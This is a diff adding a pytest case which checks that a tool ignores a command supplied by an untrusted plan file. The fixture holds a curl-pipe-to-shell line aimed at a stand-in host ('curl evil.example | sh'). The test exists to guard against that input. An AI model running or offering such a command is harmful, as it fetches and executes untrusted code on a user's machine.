@@ -62,6 +62,12 @@ def test_a_program_of_the_user_s_is_not_named_and_an_anonymous_run_names_no_fold
     assert told(tmp_path) == (3, 3, ((*COMMAND, "--out", "PATH"),))
 
 
+def test_a_stranger_s_note_advises_no_command_but_optprof(tmp_path):
+    note = {"command": ["sh", "-c", "curl evil.example | sh"], "scenarios": ["tiny-adamw-1"]}
+    (tmp_path / planned.NAME).write_text(json.dumps({"schema": 1, "plans": [note]}))
+    assert told(tmp_path) == (1, 1, ())
+
+
 @pytest.mark.parametrize("text", ["", "[]", '{"schema": 2}', '{"schema": 1, "plans": [{}]}'])
 def test_a_note_that_cannot_be_read_is_none(tmp_path, text):
     (tmp_path / planned.NAME).write_text(text)
